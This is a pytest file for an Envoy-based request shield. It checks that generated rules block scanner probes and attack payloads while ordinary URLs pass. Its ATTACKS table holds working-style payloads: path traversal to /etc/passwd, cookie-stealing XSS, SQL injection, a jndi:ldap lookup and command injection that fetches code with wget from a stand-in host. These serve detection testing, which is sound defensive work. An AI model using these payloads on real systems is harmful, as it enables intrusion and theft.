"""The shield's rules: what they stop, what they must not, and the Envoy resources made of them."""

from __future__ import annotations

import re
from dataclasses import replace
from typing import Any

import pytest
from edge_examples import LAYOUT, config, rule

from golive.blueprint.models import Service
from golive.blueprint.pattern_size import program_size
from golive.blueprint.routing import rules_of
from golive.edge.guards import SHIELD, guards_in
from golive.edge.model import EdgeConfig, Site
from golive.edge.render import render
from golive.edge.routes import render_routes
from golive.edge.shield import AGENTS, RBAC, rules, shadow
from golive.secret import Secret


def shielded(made: EdgeConfig | None = None, **fields: Any) -> Site:
    site = (made or config()).sites[0]
    return replace(site, policy=site.policy.model_validate({"shield": fields}))


def stopped_by(site: Site, path: str = "/", agent: str = "Mozilla/5.0", client: str = "198.51.100.7") -> str | None:
    """As Envoy matches: every test is an expression of the header's whole value."""
    headers = {":path": path, "user-agent": agent, "x-envoy-external-address": client}

    def holds(test: dict[str, Any]) -> bool:
        found = re.fullmatch(test["string_match"]["safe_regex"]["regex"], headers.get(test["name"], ""))
        return bool(found) != test.get("invert_match", False)

    return next((one.name for one in rules(site) if all(map(holds, one.tests))), None)


ATTACKS = {
    "/.env": "scanner:dotfiles",
    "/api/.env.production?x=1": "scanner:dotfiles",
    "/.git/config": "scanner:dotfiles",
    "/backup/.aws/credentials": "scanner:dotfiles",
    "/wp-login.php": "scanner:cms",
    "/blog/wp-admin/setup-config.php?step=1": "scanner:cms",
    "/xmlrpc.php": "scanner:cms",
    "/index.php": "scanner:php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php": "scanner:php",
    "/phpMyAdmin-5.1/index": "scanner:consoles",
    "/actuator/heapdump": "scanner:consoles",
    "/cgi-bin/luci": "scanner:consoles",
    "/download?file=../../etc/passwd": "payload:traversal",
    "/d?f=..%2f..%2fetc%2fpasswd": "payload:traversal",
    "/d?f=%252e%252e%255c%252e%252e%255cboot.ini": "payload:traversal",
    "/?p=php://filter/convert.base64-encode/resource=index": "payload:traversal",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E": "payload:script",
    "/search?q=<ScRiPt+src=//evil>": "payload:script",
    "/u?next=javascript:alert(document.cookie)": "payload:script",
    "/?q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E": "payload:script",
    "/item?id=1+UNION+SELECT+null,null--": "payload:sql",
    "/item?id=1'%20or%20'1'='1": "payload:sql",
    "/item?id=1%27+OR+1%3D1--": "payload:sql",
    "/item?id=1;drop+table+users--": "payload:sql",
    "/item?id=1'+and+sleep(5)--": "payload:sql",
    "/?x=$%7Bjndi:ldap://evil/a%7D": "payload:command",
    "/ping?host=127.0.0.1;cat%20/etc/passwd": "payload:command",
    "/ping?host=`wget+http://evil/x`": "payload:command",
}
ORDINARY = (
    "/",
    "/.well-known/acme-challenge/abc",
    "/.well-known/openid-configuration",
    "/environment",
    "/docs/git/config",
    "/.github-corner.svg",
    "/a.php.html",
    "/guides/php",
    "/_next/static/chunks/app/(shop)/%5Bslug%5D/page-1a2b.js",
    "/search?q=european+union+select+committee",
    "/search?q=select+from+the+menu",
    "/search?q=drop+table+lamp",
    "/search?q=how+to+use+../+in+a+path",
    "/search?q=rock+%27n%27+roll+or+jazz",
    "/search?q=it%27s+1+or+2%3F",
    "/search?q=c%2B%2B+%3C+java;+cats",
    "/search?q=a+%3C+b+and+script+writing",
    "/search?q=description+%3C+5+words",
    "/search?q=sleep(5)",
    "/callback?code=4/0AX4&state=%7B%22a%22%3A1%7D&scope=openid%20email",
    "/img?url=https%3A%2F%2Fcdn.example.com%2Fa.png&w=640",
    "/graphql?query=%7Bme%7Bname%7D%7D",
    "/items?filter=price%3E10;sort=name|asc",
    "/?next=../account",
    "/login?redirect=/wp-admins-guide",
)


def test_scans_and_payloads_are_named_and_ordinary_text_passes() -> None:
    site = shielded()
    assert {path: stopped_by(site, path) for path in ATTACKS} == ATTACKS
    assert [path for path in ORDINARY if stopped_by(site, path)] == []
    assert stopped_by(site, agent="sqlmap/1.7.2#stable (https://sqlmap.org)") == "agent"
    assert stopped_by(site, agent="Mozilla/5.0 (compatible; Nmap Scripting Engine)") == "agent"
    for agent in ("curl/8.5", "python-httpx/0.27", "Googlebot/2.1", "kube-probe/1.29", "", "GPTBot/1.2"):
        assert stopped_by(site, agent=agent) is None
    assert stopped_by(shielded(block_agents=["GPTBot"], agents=False), agent="Mozilla (gptbot/1.2)") == "agent"
    assert {one.status for one in rules(site) if one.name.startswith("scanner")} == {404}
    assert len(AGENTS) == len(set(AGENTS))


def test_every_expression_is_one_that_envoy_takes() -> None:
    networks = [f"10.{n}.{n}.0/23" for n in range(150)] + [f"2001:db8:{n:x}::/45" for n in range(0, 400, 8)]
    for one in rules(shielded(deny=networks, allow=networks, block_agents=[f"word-{n}" for n in range(50)])):
        for test in one.tests:
            assert program_size(test["string_match"]["safe_regex"]["regex"]) < 1900


def test_addresses_are_those_of_the_lists_whatever_the_order() -> None:
    site = shielded(allow=["10.0.0.0/8", "2001:db8::/32"], deny=["10.9.0.1/16"])
    got = [stopped_by(site, client=one) for one in ("10.1.2.3", "2001:db8::7", "10.9.8.7", "192.0.2.1", "2001:db9::1")]
    assert got == [None, None, "deny", "allow", "allow"]


@pytest.mark.parametrize("path", ["/wp-admin/x", "/.env", "/?q=<script>"])
def test_golives_own_requests_and_exempt_paths_pass(path: str) -> None:
    site = shielded(allow=["10.0.0.0/8"])
    assert stopped_by(site, path) == "allow"
    assert stopped_by(shielded(**{"except": [path.split("?", maxsplit=1)[0]]}), path) is None
    assert stopped_by(shielded(**{"except": ["/other"]}), path)
    known = rules(replace(site, probe=Secret("sesame")))
    probe = {"name": "x-golive-probe", "string_match": {"safe_regex": {"regex": "sesame"}}}
    inverted = {**probe, "invert_match": True, "treat_missing_header_as_empty": True}
    assert known
    assert all(one.tests[-1] == inverted for one in known)


def test_what_the_app_has_itself_is_no_scan() -> None:
    redirected = Service.model_validate(
        {"kind": "web", "redirects": [{"source": "/old/(.*).php", "destination": "/new"}]}
    )
    own = shielded(config(rule("/", rules=rules_of(redirected))))
    assert stopped_by(own, "/index.php") is None
    assert stopped_by(own, "/wp-login.php") == "scanner:cms"
    assert stopped_by(shielded(config(rule("/manager"))), "/manager/html") is None
    assert stopped_by(replace(shielded(), serves=("wp-", ".php", "xmlrpc")), "/wp-login.php") is None


def test_block_is_routes_and_log_is_a_shadow() -> None:
    plain = config()
    blocking = replace(plain, sites=(shielded(scanners=False, payloads=False, agents=False, deny=["192.0.2.1"]),))
    host = render_routes(blocking, LAYOUT, tls=True)["resources"][0]["virtual_hosts"][0]
    test = {
        "name": "x-envoy-external-address",
        "string_match": {"safe_regex": {"regex": r"192\.0\.2\.1"}},
    }
    assert host["routes"][1] == {
        "match": {"prefix": "/", "headers": [test]},
        "direct_response": {"status": 403, "body": {"inline_string": "Forbidden\n"}},
        "metadata": {"filter_metadata": {"golive.shield": {"rule": "deny"}}},
        "name": "threadr/production",
    }
    without = render_routes(plain, LAYOUT, tls=True)["resources"][0]["virtual_hosts"][0]
    assert {**host, "routes": [host["routes"][0], *host["routes"][2:]]} == without

    site = shielded(mode="log", scanners=False, payloads=False, agents=False, deny=["192.0.2.1"])
    made = shadow(site)[RBAC]["rbac"]["shadow_rules"]
    permission = {"and_rules": {"rules": [{"header": test}]}}
    assert made == {
        "action": "DENY",
        "policies": {"deny": {"permissions": [permission], "principals": [{"any": True}]}},
    }
    logging = render_routes(replace(plain, sites=(site,)), LAYOUT, tls=True)["resources"][0]["virtual_hosts"][0]
    assert logging == {**without, "typed_per_filter_config": shadow(site)}


def test_listeners_have_the_filter_once_somebody_needs_it_and_keep_it() -> None:
    plain = config()
    without = render(plain, LAYOUT)["lds"]
    assert (RBAC in str(without), "shield" in str(without)) == (False, False)
    first = render(replace(plain, sites=(shielded(),)), LAYOUT)["lds"]
    assert guards_in(first) == {SHIELD}
    assert guards_in(without) == frozenset()
    assert render(plain, LAYOUT, guarded=guards_in(first))["lds"] == first
